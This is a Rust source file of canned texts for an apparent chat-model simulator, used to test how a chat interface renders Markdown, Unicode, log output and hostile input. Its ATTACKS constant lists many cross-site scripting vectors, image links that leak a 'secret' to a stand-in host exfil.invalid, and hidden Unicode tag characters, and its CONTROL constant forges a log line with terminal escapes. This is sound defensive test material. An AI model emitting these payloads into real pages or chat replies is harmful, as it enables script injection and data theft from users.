//! The texts that the simulator says.

/// Opens every ordinary answer with the question, then shows what Markdown and scripts a chat must render.
pub(super) fn tour(question: &str, model: &str) -> String {
    let mut short: String = question
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
        .chars()
        .take(160)
        .collect();
    if short.is_empty() {
        short.push('…');
    }
    format!("You asked: “{short}”\n\nThis is `{model}`, played by the simulator. {TOUR}")
}

const TOUR: &str = r#"Nothing left this machine and nothing was billed. Here is a tour of what an answer can hold.

## A short tour

A paragraph has **bold**, *italic*, ***both***, ~~struck~~ and `inline code`. A line can be long enough to wrap on a
phone, and a [link to the CommonMark specification](https://spec.commonmark.org/) goes where it says.

1. Read the question.
2. Split it into parts:
   - what is known,
   - what is asked,
     - and what nobody said.
3. Answer the part that matters.

| Step | Cost | Why |
|:-----|-----:|:----|
| parse | O(n) | every byte once |
| sort | O(n log n) | comparisons |
| look up | O(1) | a hash table |

### Some Rust

```rust
use std::collections::HashMap;

/// Counts the words of a text, ignoring case.
fn count(text: &str) -> HashMap<String, usize> {
    let mut counts = HashMap::new();
    for word in text.split_whitespace() {
        *counts.entry(word.to_lowercase()).or_default() += 1;
    }
    counts
}
```

### The same in Python

```python
from collections import Counter

def count(text: str) -> Counter:
    """Counts the words of a text, ignoring case."""
    return Counter(text.lower().split())

print(count("to be or not to be").most_common(2))
```

> Premature optimisation is the root of all evil,
> yet we should not pass up our opportunities in that critical 3 %.

- [x] Tests written
- [x] Tests seen to fail
- [ ] Coffee

### Other scripts

- 中文：模型逐字输出时，界面不应该跳动。
- العربية: يجب أن يظهر هذا السطر من اليمين إلى اليسار مع رقم 42 و`code` في وسطه.
- हिन्दी: संयुक्त अक्षर टूटने नहीं चाहिए, जैसे “क्षत्रिय” और “विद्यार्थी”.
- Emoji: 👩‍👩‍👧‍👦 is one family, 🏳️‍🌈 one flag, 👍🏽 one thumb, and é can be two code points.

---

That is all. Ask for something else, or pick a model whose name begins with `sim-` to see what a bad day looks like.
"#;

/// What `sim-think` thinks before it speaks.
pub(super) const THOUGHTS: &str = "**Reading the question**\n\nThe user wants a short answer. First I check what is \
    known, then I compare two ways to say it. The second one is shorter, so I take it.";

/// What a thinking model says after [`THOUGHTS`].
pub(super) const CONCLUSION: &str =
    "After some thought: **the shorter way is the better one**, and 6 × 7 = 42.";

/// A short answer, before and around the faults.
pub(super) const SHORT: &str = "Hello from the simulator.";

/// A partial answer, before something breaks.
pub(super) const PARTIAL: &str = "This is the first part of an answer, and then it breaks";

/// Text of every width in UTF-8, for the wires that cut bytes: 1, 2, 3 and 4 byte characters, joined and combined.
pub(super) const WIDE: &str = "Plain ASCII, é à ü, 中文字符, हिन्दी क्षत्रिय, العربية, 👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽, \"quotes\" and \\ \
    back\\slashes, data: not a field\nid: nor this\r\n\r\nevent: nor that.\n\nThe end.";

/// The message of `sim-ctrl`: it tries to forge a line of the log and to repaint the terminal.
pub(super) const CONTROL: &str = "bad request \u{1b}[31mred\u{1b}[0m\u{7}\r\n2026-11-20T00:00:00Z  INFO keylm: \
    admin logged in user=root\u{0}\u{2028}end";

/// The answer of `sim-xss`: everything that a page must show as text or drop.
pub(super) const ATTACKS: &str = "# <script>window.__pwned=1</script>\n\n\
<script>window.__pwned=2</script>\n\n\
<img src=x onerror=\"window.__pwned=3\">\n\n\
<svg onload=\"window.__pwned=4\"><a xlink:href=\"javascript:window.__pwned=5\">x</a></svg>\n\n\
<iframe srcdoc=\"<script>parent.__pwned=6</script>\"></iframe><style>body{display:none}</style>\n\n\
<a href=\"#\" onclick=\"window.__pwned=7\">click</a> <details open ontoggle=\"window.__pwned=8\">\n\n\
![pixel](https://exfil.invalid/p.png?q=secret) ![ref][pix] ![pix] ![pix][]\n\n\
[pix]: https://exfil.invalid/ref.png?q=secret \"title\\\" onload=window.__pwned=9\"\n\n\
[js](javascript:window.__pwned=10) [JS](JaVaScRiPt:window.__pwned=11) [tab](java\tscript:window.__pwned=12) \
[ent](&#106;avascript:window.__pwned=13) [vb](vbscript:msgbox) [rel](//exfil.invalid/x) [api](/api/v1/me)\n\n\
[data](data:text/html,<script>window.__pwned=14</script>) <data:text/html;base64,PHNjcmlwdD4=> \
<javascript:window.__pwned=15> <https://exfil.invalid/auto> <a@exfil.invalid> [user](https://good.invalid@exfil.invalid/)\n\n\
> > > > > > <img src=x onerror=window.__pwned=16>\n\n\
| <b onmouseover=\"window.__pwned=17\">cell</b> | `</code><script>window.__pwned=18</script>` |\n|---|---|\n| x | \"><script>window.__pwned=19</script> |\n\n\
```\"><script>window.__pwned=20</script>\n</code></pre><script>window.__pwned=21</script>\n```\n\n\
```html onmouseover=window.__pwned=22\n<b>code</b>\n```\n\n\
Bidi: \u{202e}gnp.exe\u{202c} \u{2066}hidden\u{2069} zero\u{200b}width \u{feff}bom. \
Tags: hi\u{e0073}\u{e0065}\u{e006e}\u{e0064}\u{e0020}\u{e006b}\u{e0065}\u{e0079}\u{e007f} end.\n\n\
$\\href{javascript:window.__pwned=23}{x}$ <math><mtext><script>window.__pwned=24</script></mtext></math>\n\n\
<!-- <script>window.__pwned=25</script> --> <![CDATA[<script>window.__pwned=26</script>]]> \
</div></main></body><base href=\"https://exfil.invalid/\"><meta http-equiv=refresh content=\"0;url=https://exfil.invalid\">\n\n\
The last line is harmless.";
